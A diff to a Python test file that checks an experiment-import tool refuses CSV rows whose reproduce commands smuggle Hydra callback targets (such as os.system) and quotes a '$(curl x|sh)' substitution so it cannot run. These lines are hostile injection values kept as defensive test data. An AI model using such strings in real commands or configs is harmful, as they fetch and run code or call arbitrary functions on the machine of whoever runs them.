@@ -310,12 +310,22 @@ def test_a_command_that_measures_something_else_is_refused_by_line(store, tmp_pa
 def test_a_command_that_sets_hydras_own_keys_is_refused_by_line(store, tmp_path, capsys) -> None:
     """The report prints a row's `reproduce` command for anyone to run, and `+hydra.callbacks.x._target_=...` has
     Hydra call any function when it is run (2026-11-29: such a row was imported and its command printed)."""
-    for extra in ("+hydra.callbacks.evil._target_=builtins.print", "hydra/launcher=basic", "--multirun"):
+    quoted = "'+hydra.callbacks.evil._target_=builtins.print'"  # a shell's quotes: Hydra gets the word without
+    for extra in ("+hydra.callbacks.evil._target_=builtins.print", quoted, "hydra/launcher=basic", "--multirun"):
         row = GOOD_ROWS[2] + f",+experiment=pytorch_mps_study model=resnet18 batch_size=4 device=cpu {extra}"
         assert cli.main([str(write_csv(tmp_path / "hydra.csv", [row])), "--experiment", "hydra"]) == 2
         (err,) = capsys.readouterr().err.strip().splitlines()
-        assert f"holds '{extra}', which is not a setting of the cell" in err and "nothing was imported" in err, err
+        assert f"holds '{extra.strip(chr(39))}', which is not a setting of the cell" in err, err
+        assert "nothing was imported" in err, err
     assert runs_in(store, "hydra") == []
+    from trainbench.references.mapping import reproducible
+
+    # the report's command runs what the row says and nothing else when pasted into a shell
+    assert (
+        reproducible("model=mlp tracking.uri='$(curl x|sh)'")
+        == "python src/run.py model=mlp 'tracking.uri=$(curl x|sh)'"
+    )
+    assert reproducible("model=mlp '+hydra.callbacks.x._target_=os.system'") is None
 
 
 def test_power_says_what_it_covers(imported) -> None:
